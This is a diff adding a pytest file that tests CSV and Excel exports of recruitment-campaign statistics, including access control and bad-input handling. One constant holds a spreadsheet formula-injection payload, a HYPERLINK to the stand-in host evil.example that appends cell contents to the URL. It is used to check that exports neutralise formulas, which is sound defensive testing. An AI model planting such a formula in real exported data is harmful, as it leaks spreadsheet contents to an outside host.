@@ -1,0 +1,140 @@
+import csv
+import datetime
+import io
+
+import openpyxl
+import pytest
+
+from carerecruit.testing.factories import make_link
+
+from .test_funnel import scene  # noqa: F401 (fixture)
+
+PERIOD = "start_0=20&start_1=4&start_2=2020&end_0=23&end_1=4&end_2=2020"
+ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+BASE = "/staff/campaigns/come-back-to-care/download"
+
+
+@pytest.fixture
+def staff(client, personas):
+    client.force_login(personas.viewer)
+    return client
+
+
+def get_csv(client, table):
+    response = client.get(f"{BASE}/{table}.csv?{PERIOD}")
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == (
+        f'attachment; filename="come-back-to-care-{table}-2020-04-20-to-2020-04-23.csv"'
+    )
+    assert response.content.startswith(b"\xef\xbb\xbf")
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+def get_xlsx(client, table):
+    response = client.get(f"{BASE}/{table}.xlsx?{PERIOD}")
+    assert response.status_code == 200
+    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    assert response["Content-Disposition"] == (
+        f'attachment; filename="come-back-to-care-{table}-2020-04-20-to-2020-04-23.xlsx"'
+    )
+    return openpyxl.load_workbook(io.BytesIO(response.content)).active
+
+
+def test_funnel_csv(staff, scene):  # noqa: F811
+    assert get_csv(staff, "funnel") == [
+        ["Step", "Count", "Conversion from previous step (%)"],
+        ["Clicks", "4", ""],
+        ["Visits", "4", "100.0"],
+        ["Form starts", "1", "25.0"],
+        ["Applications", "1", "100.0"],
+    ]
+
+
+HEAD = ["Clicks", "Visits", "Form starts", "Applications", "Click to visit (%)", "Visit to application (%)"]
+
+
+def test_channels_csv(staff, scene):  # noqa: F811
+    assert get_csv(staff, "channels") == [
+        ["Channel", *HEAD],
+        ["Facebook", "3", "2", "1", "1", "66.7", "50.0"],
+        ["LinkedIn", "1", "1", "0", "0", "100.0", "0.0"],
+        ["Direct or untracked", "0", "1", "0", "0", "", "0.0"],
+        ["All channels", "4", "4", "1", "1", "100.0", "25.0"],
+    ]
+
+
+def test_channels_xlsx_keeps_numbers_as_numbers(staff, scene):  # noqa: F811
+    sheet = get_xlsx(staff, "channels")
+    assert sheet.title == "By channel"
+    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
+        ["Channel", *HEAD],
+        ["Facebook", 3, 2, 1, 1, 66.7, 50.0],
+        ["LinkedIn", 1, 1, 0, 0, 100.0, 0.0],
+        ["Direct or untracked", 0, 1, 0, 0, None, 0.0],
+        ["All channels", 4, 4, 1, 1, 100.0, 25.0],
+    ]
+    assert sheet["B2"].data_type == "n"
+
+
+def test_days_csv_and_xlsx(staff, scene):  # noqa: F811
+    assert get_csv(staff, "days") == [
+        ["Local date", *HEAD],
+        ["2020-04-20", "3", "2", "1", "0", "66.7", "0.0"],
+        ["2020-04-21", "1", "1", "0", "1", "100.0", "100.0"],
+        ["2020-04-22", "0", "1", "0", "0", "", "0.0"],
+        ["2020-04-23", "0", "0", "0", "0", "", ""],
+        ["All days", "4", "4", "1", "1", "100.0", "25.0"],
+    ]
+    sheet = get_xlsx(staff, "days")
+    rows = [[c.value for c in row] for row in sheet.iter_rows()]
+    assert rows[1] == [datetime.datetime(2020, 4, 20), 3, 2, 1, 0, 66.7, 0.0]
+    assert rows[4] == [datetime.datetime(2020, 4, 23), 0, 0, 0, 0, None, None]
+    assert rows[5] == ["All days", 4, 4, 1, 1, 100.0, 25.0]
+    assert sheet["A2"].number_format == "yyyy-mm-dd"
+
+
+def test_links_neutralise_formulas_in_csv_and_xlsx(staff, scene):  # noqa: F811
+    campaign, facebook, linkedin = scene
+    evil = make_link(campaign, "email", label=ATTACK)
+    assert get_csv(staff, "links") == [
+        ["Link code", "Label", "Channel", *HEAD],
+        [facebook.code, "Spring post", "Facebook", "3", "2", "1", "1", "66.7", "50.0"],
+        [linkedin.code, "Recruiter post", "LinkedIn", "1", "1", "0", "0", "100.0", "0.0"],
+        [evil.code, "'" + ATTACK, "Email", "0", "0", "0", "0", "", ""],
+        ["", "No tracked link", "", "0", "1", "0", "0", "", "0.0"],
+        ["", "All links", "", "4", "4", "1", "1", "100.0", "25.0"],
+    ]
+    sheet = get_xlsx(staff, "links")
+    cell = sheet["B4"]
+    assert cell.data_type == "s"
+    assert cell.value == "'" + ATTACK
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+
+
+@pytest.mark.parametrize("path", ["people.csv", "funnel.pdf", "funnel.CSV", "links.xls"])
+def test_unknown_table_or_format_is_404(staff, scene, path):  # noqa: F811
+    assert staff.get(f"{BASE}/{path}").status_code == 404
+
+
+def test_unknown_campaign_is_404(staff, db):
+    assert staff.get("/staff/campaigns/no-such/download/funnel.csv").status_code == 404
+
+
+def test_bad_period_is_400(staff, scene):  # noqa: F811
+    response = staff.get(f"{BASE}/funnel.csv?start_0=1&start_1=13&start_2=2020&end_0=1&end_1=1&end_2=2021")
+    assert response.status_code == 400
+
+
+def test_anonymous_is_sent_to_sign_in(client, scene):  # noqa: F811
+    response = client.get(f"{BASE}/funnel.csv")
+    assert response.status_code == 302
+    assert response["Location"] == f"/staff/login/?next={BASE}/funnel.csv"
+
+
+def test_default_period_download(staff, scene):  # noqa: F811
+    # Without a period the campaign's default applies (capped at 366 days, ending today).
+    rows = list(csv.reader(io.StringIO(
+        staff.get(f"{BASE}/days.csv").content.decode("utf-8-sig")
+    )))
+    assert len(rows) == 1 + 366 + 1
